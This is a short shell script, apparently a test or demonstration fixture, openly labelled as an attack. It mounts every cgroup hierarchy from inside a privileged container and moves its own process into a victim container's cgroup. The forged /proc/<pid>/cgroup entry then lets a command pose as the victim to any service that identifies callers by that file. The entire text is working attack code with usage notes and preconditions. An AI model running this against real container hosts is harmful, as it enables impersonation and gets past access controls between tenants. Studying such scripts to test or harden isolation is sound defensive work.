# Attack: move this process into another container's cgroup, in every
# hierarchy, so that /proc/<pid>/cgroup names the victim to whoever identifies
# a caller by that file alone.
#
#   sh -c "$script" sh VICTIM-ID COMMAND...    runs COMMAND in the forged place
#
# Works where the container sees the host's cgroups (default with cgroup v1,
# --cgroupns=host with v2) and may mount: CAP_SYS_ADMIN, and no AppArmor
# profile. Standard error says in how many hierarchies it succeeded; if that is
# none, the exit status is 99 and COMMAND is not run.
victim=$1
shift
moved=0
total=0
while IFS=: read -r _ controllers own; do
  case $controllers in
  '') type=cgroup2 options=rw name=unified ;;
  name=*) type=cgroup options=none,$controllers name=${controllers#name=} ;;
  *) type=cgroup options=$controllers name=$controllers ;;
  esac
  total=$((total + 1))
  mnt=/tmp/cgroup/$name
  mkdir -p "$mnt"
  mount -t "$type" -o "$options" cgroup "$mnt" || continue
  # The victim's cgroup is the sibling of our own; Podman's have a prefix.
  for there in "$victim" "libpod-$victim"; do
    [ -d "$mnt${own%/*}/$there" ] && echo $$ >"$mnt${own%/*}/$there/cgroup.procs" && moved=$((moved + 1))
  done
done </proc/self/cgroup 2>/dev/null
echo "forge: moved in $moved of $total hierarchies" >&2
[ "$moved" -gt 0 ] || exit 99
exec "$@"
